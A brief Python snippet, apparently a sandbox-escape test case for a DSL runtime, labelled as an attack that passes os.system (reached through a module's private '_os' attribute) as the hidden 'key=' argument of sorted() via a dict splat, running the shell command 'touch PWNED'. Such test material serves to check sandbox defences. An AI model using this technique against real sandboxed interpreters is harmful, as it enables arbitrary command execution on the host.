# Attack: hide the `key=` argument in a `**` splat of a dict.
from dsl.runtime.engine import random as r

sorted(["touch PWNED"], **{"key": r._os.system})
